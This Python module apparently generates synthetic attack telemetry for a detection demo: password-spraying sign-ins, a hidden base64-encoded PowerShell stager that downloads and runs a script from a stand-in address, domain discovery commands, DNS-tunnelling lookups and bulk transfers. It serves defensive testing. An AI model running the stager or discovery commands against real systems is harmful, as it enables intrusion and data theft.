"""The intruder: sprays passwords, gets in with one, looks around from a laptop, tunnels, and takes data out."""

import base64
import hashlib
from collections.abc import Iterator
from typing import Any

from vedette.demo.cast import INTRUDER_ADDRESS, PEOPLE, VICTIM
from vedette.demo.connections import connection
from vedette.demo.moments import Moments
from vedette.demo.name_lookups import lookup
from vedette.demo.processes import powershell, system_tool
from vedette.demo.sign_ins import OFFICE, SUCCESS, WRONG_PASSWORD, Place, sign_in

_ABROAD = Place(INTRUDER_ADDRESS, "NL", "Amsterdam")
_ROUNDS = 3
_BROWSER = "Python Requests 2.31"
_REMOTE_SHELL = "wsmprovhost.exe"
_STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.66/tide.ps1')"
_DISCOVERY = (
    ("whoami.exe", "/all"),
    ("ipconfig.exe", "/all"),
    ("net.exe", 'group "Domain Admins" /domain'),
    ("nltest.exe", "/domain_trusts"),
    ("systeminfo.exe", ""),
    ("tasklist.exe", "/svc"),
    ("quser.exe", ""),
)
_TUNNEL_DOMAIN = "ledger-sync.example"
_TUNNEL_LOOKUPS = 240
_TRANSFERS = 60


def intruder_sign_ins(moments: Moments) -> Iterator[dict[str, Any]]:
    """Three passwords tried on everybody in forty minutes; the third is one person's, who is in the office."""
    for attempt in range(_ROUNDS):
        for place, person in enumerate(PEOPLE):
            moment = moments.before_end(hours=6, minutes=30 - 13 * attempt, seconds=-15 * place)
            yield sign_in(person, moment, _ABROAD, WRONG_PASSWORD, "Azure Portal", _BROWSER)
    yield sign_in(VICTIM, moments.before_end(hours=6, minutes=20), OFFICE, SUCCESS, "Teams", "Edge 126.0")
    yield sign_in(VICTIM, moments.before_end(hours=5, minutes=41), _ABROAD, SUCCESS, "Azure Portal", _BROWSER)


def intruder_processes(moments: Moments) -> Iterator[dict[str, Any]]:
    """A hidden, encoded download in a remote shell on the victim's laptop, then seven looks around."""
    encoded = base64.b64encode(_STAGER.encode("utf-16-le")).decode()
    start = moments.before_end(hours=5, minutes=5)
    yield powershell(VICTIM, start, _REMOTE_SHELL, f"-NoP -W Hidden -enc {encoded}")
    for number, (tool, arguments) in enumerate(_DISCOVERY):
        moment = moments.before_end(hours=5, minutes=2 - 3 * number)
        yield system_tool(VICTIM, moment, "powershell.exe", tool, arguments)


def intruder_lookups(moments: Moments) -> Iterator[dict[str, Any]]:
    """Data in the names: a new long label to a domain that nobody else asks for, twice a minute for two hours."""
    for number in range(_TUNNEL_LOOKUPS):
        label = base64.b32encode(hashlib.sha256(str(number).encode()).digest()).decode().lower().rstrip("=")
        moment = moments.before_end(hours=4, minutes=30, seconds=-30 * number)
        yield lookup(VICTIM.address, moment, f"{label}.{number:03d}.{_TUNNEL_DOMAIN}", "TXT")


def intruder_connections(moments: Moments) -> Iterator[dict[str, Any]]:
    """Nearly two gigabytes in an hour, to the address that the sign-in came from."""
    for number in range(_TRANSFERS):
        moment = moments.before_end(hours=2, minutes=20, seconds=-55 * number)
        sent = 28_000_000 + 150_000 * (number * 7 % 31)
        yield connection(VICTIM.address, INTRUDER_ADDRESS, 443, moment, sent=sent, received=40_000)
